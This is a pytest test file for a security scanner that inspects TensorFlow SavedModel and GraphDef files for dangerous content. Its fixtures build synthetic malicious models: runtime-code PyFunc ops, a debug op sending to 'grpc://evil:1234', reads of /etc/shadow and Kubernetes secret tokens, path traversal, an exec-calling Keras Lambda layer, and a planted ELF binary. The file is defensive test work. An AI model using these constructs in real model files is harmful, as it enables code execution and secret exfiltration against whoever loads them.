"""TensorFlow protobufs built with the wire writer, and SavedModel directories."""

from __future__ import annotations

import json
from pathlib import Path

from kt_builders import (
    attr_list_s,
    attr_s,
    attr_string_tensor,
    f_bytes,
    f_varint,
    function,
    graph_def,
    keras2_lambda_layer,
    keras_metadata_pb,
    meta_graph,
    node,
    saved_model,
)

from modelsec.bytesource import BytesSource
from modelsec.engine import Engine, FileResult, ScanReport

SAFE_GRAPH = graph_def(
    [
        node("x", "Placeholder"),
        node("w", "VarHandleOp"),
        node("r", "ReadVariableOp", ["w"]),
        node("m", "MatMul", ["x", "r"]),
        node("prefix", "Placeholder"),
        node("names", "Const", attrs=attr_string_tensor("value", ["w/.ATTRIBUTES/VARIABLE_VALUE"])),
        node("save", "SaveV2", ["prefix", "names", "slices", "r"]),
        node("call", "StatefulPartitionedCall", attrs=b""),
    ],
    [
        function("__inference_serve_7", [node("a", "Relu"), node("b", "__inference_helper_3")]),
        function("__inference_helper_3", [node("c", "Identity")]),
    ],
)


def scan(data: bytes, name: str = "saved_model.pb") -> FileResult:
    return Engine().scan_source(name, BytesSource(data))


def threats(result: FileResult | ScanReport) -> list[str]:
    found = result.findings if isinstance(result, FileResult) else result.all_findings()
    return sorted(f.threat for f in found)


def test_clean_savedmodel() -> None:
    result = scan(saved_model(meta_graph(SAFE_GRAPH, stripped_ops=["MatMul", "SaveV2"])))
    assert result.format == "tf-savedmodel"
    assert result.findings == [] and result.incompletes == []


def test_pyfunc_in_graph_and_only_in_a_library_function() -> None:
    in_graph = graph_def([node("p", "PyFunc", attrs=attr_s("token", "pyfunc_3"))])
    result = scan(saved_model(meta_graph(in_graph)))
    (finding,) = result.findings
    assert finding.threat == "MS-TF-001" and finding.rule == "RuntimeCodeExecution"
    assert "pyfunc_3" in finding.message and finding.offset is not None
    hidden = graph_def([node("x", "Placeholder")], [function("__inference_f_1", [node("q", "EagerPyFunc")])])
    result = scan(saved_model(meta_graph(hidden)))
    assert threats(result) == ["MS-TF-001"] and "function __inference_f_1" in result.findings[0].message


def test_file_network_debug_and_print_ops() -> None:
    g = graph_def(
        [
            node("rf", "ReadFile"),
            node("wf", "WriteFile"),
            node("rpc", "RpcClient"),
            node("dbg", "DebugIdentity", attrs=attr_list_s("debug_urls", ["grpc://evil:1234"])),
            node("pr", "PrintV2", attrs=attr_s("output_stream", "file:///tmp/leak")),
            node("pr2", "PrintV2", attrs=attr_s("output_stream", "stderr")),
            node("ic", "ImmutableConst", attrs=attr_s("memory_region_name", "/etc/shadow")),
            node("dp", "DecodeProtoV2", attrs=attr_s("descriptor_source", "/tmp/evil.desc")),
        ]
    )
    result = scan(saved_model(meta_graph(g)))
    assert threats(result) == sorted(
        ["MS-TF-002", "MS-TF-003", "MS-TF-004", "MS-TF-005", "MS-TF-003", "MS-TF-002", "MS-TF-002"]
    )
    debug = next(f for f in result.findings if f.threat == "MS-TF-005")
    assert debug.severity.name == "HIGH" and "grpc://evil:1234" in debug.message
    assert any("/etc/shadow" in f.message for f in result.findings)


def test_paths_outside_the_model() -> None:
    g = graph_def(
        [
            node("p", "Const", attrs=attr_string_tensor("value", ["/var/run/secrets/token"])),
            node("restore", "RestoreV2", ["p:0", "n", "s"]),
            node("v", "Const", attrs=attr_string_tensor("value", ["../../vocab.txt"])),
            node("t", "InitializeTableFromTextFileV2", ["h", "v"]),
        ]
    )
    result = scan(saved_model(meta_graph(g, assets=["vocab.txt", "/etc/passwd"])))
    assert threats(result) == ["MS-TF-006"] * 3
    assert {f.subject for f in result.findings} == {
        "/var/run/secrets/token",
        "../../vocab.txt",
        "/etc/passwd",
    }


def test_unknown_ops_but_function_calls_are_known() -> None:
    g = graph_def(
        [node("z", "ZapKernel"), node("c", "__inference_f_2")],
        [function("__inference_f_2", [node("y", "Relu")])],
    )
    result = scan(saved_model(meta_graph(g, stripped_ops=["ZapKernel", "GhostOp"])))
    assert threats(result) == ["MS-TF-010", "MS-TF-010"]
    assert {f.subject for f in result.findings} == {"ZapKernel", "GhostOp"}
    assert {f.rule for f in result.findings} == {"KnownFrameworkOperators"}


def test_keras_metadata_in_object_graph_and_keras_metadata_pb() -> None:
    meta = json.dumps(keras2_lambda_layer(lambda x: exec("import os")))
    result = scan(saved_model(meta_graph(SAFE_GRAPH, user_objects=[("_tf_keras_layer", meta)])))
    assert threats(result) == ["MS-KERAS-001"]
    result = scan(keras_metadata_pb([("root.layer-1", "_tf_keras_layer", meta)]), "keras_metadata.pb")
    assert result.format == "tf-keras-metadata" and threats(result) == ["MS-KERAS-001"]


def test_frozen_graphdef_is_detected_and_scanned() -> None:
    result = scan(graph_def([node("x", "Placeholder"), node("p", "PyFuncStateless")]), "frozen_graph.pb")
    assert result.format == "tf-graphdef" and threats(result) == ["MS-TF-001"]


def test_other_protobufs_are_not_claimed() -> None:
    onnx_like = f_varint(1, 8) + f_bytes(2, "pytorch") + f_bytes(7, f_bytes(1, f_bytes(1, "x")))
    assert scan(onnx_like, "model.onnx").format != "tf-savedmodel"
    assert scan(b"\n\x05hello world", "notes.txt").format not in ("tf-savedmodel", "tf-graphdef")


def test_malformed_savedmodel_keeps_findings_before_the_damage_and_fails_closed() -> None:
    good = f_bytes(2, meta_graph(graph_def([node("p", "PyFunc")])))
    bad = b"\x12\x05\x0a\x7f"  # a second meta graph whose inner length overruns it
    result = scan(f_varint(1, 1) + good + bad)
    assert result.format == "tf-savedmodel"
    assert "MS-TF-001" in threats(result)
    assert any("malformed" in i.reason for i in result.incompletes)
    truncated = saved_model(meta_graph(graph_def([node(f"n{i}", "Relu") for i in range(50)])))[:-7]
    result = scan(truncated)
    assert result.format == "tf-savedmodel" and result.incompletes


def test_savedmodel_directory(tmp_path: Path) -> None:
    root = tmp_path / "model"
    (root / "variables").mkdir(parents=True)
    (root / "assets").mkdir()
    (root / "saved_model.pb").write_bytes(saved_model(meta_graph(SAFE_GRAPH)))
    (root / "variables" / "variables.index").write_bytes(
        b"\x00" * 40 + (0xDB4775248B80FB57).to_bytes(8, "little")
    )
    (root / "variables" / "variables.data-00000-of-00002").write_bytes(b"\x00" * 16)
    (root / "assets" / "vocab.txt").write_text("a\nb\n")
    (root / "assets" / "loader.py").write_text("import os\n")
    (root / "assets" / "tool").write_bytes(b"\x7fELF\x02\x01\x01")
    report = Engine().scan_path(root)
    assert [r.format for r in report.layout_formats] == ["tf-savedmodel"]
    # Other formats' analysers may also speak about loader.py; these are ours.
    assert [t for t in threats(report) if t.startswith("MS-TF")] == ["MS-TF-020", "MS-TF-020", "MS-TF-021"]
    shards = next(f for f in report.findings if f.threat == "MS-TF-021")
    assert "missing [1]" in shards.message


def test_directory_with_unrecognisable_saved_model_pb(tmp_path: Path) -> None:
    (tmp_path / "saved_model.pb").write_bytes(b"\xff\xfe garbage")
    report = Engine().scan_path(tmp_path)
    assert [t for t in threats(report) if t.startswith("MS-TF")] == ["MS-TF-022"]
    assert report.all_incompletes()
